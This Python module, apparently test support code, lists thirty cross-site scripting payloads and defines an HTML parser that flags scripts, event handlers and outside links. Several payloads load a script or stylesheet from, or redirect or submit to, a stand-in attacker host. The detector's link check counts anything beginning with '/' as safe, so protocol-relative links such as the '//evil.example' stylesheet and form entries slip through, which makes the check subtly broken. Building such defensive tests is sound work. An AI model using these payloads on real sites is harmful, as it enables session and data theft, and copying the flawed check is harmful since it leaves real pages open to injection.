"""Thirty texts that would run as scripts, or fetch or send something, where they were taken for markup."""

from html.parser import HTMLParser

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a></svg>',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<form action="//evil.example"><button>Go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "${alert(1)}`<!--<img src=--><img src=x onerror=alert(1)//>",
]

RUNS = ("iframe", "object", "embed", "base", "template", "math", "frame", "applet", "style")
"""Elements that none of our pages has."""


class Page(HTMLParser):
    """A page as a browser takes it apart: its text, and what in it could run or lead elsewhere."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.text = ""
        self.dangers: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        runs = tag in RUNS or (tag == "script" and not given.get("src", "").startswith("/static/"))
        handlers = [name for name in given if name.startswith("on") or name in ("style", "srcdoc", "http-equiv")]
        leads = [given[name] for name in ("href", "src", "action", "xlink:href") if name in given]
        # An attribute may hold an attack as its text: what matters is that it has not become another one.
        self.text += " ".join(["", *given.values()])
        if runs or handlers or not all(each.startswith(("/", "#", "data:,")) for each in leads):
            self.dangers.append(f"<{tag} {given}>")

    def handle_data(self, data: str) -> None:
        self.text += data
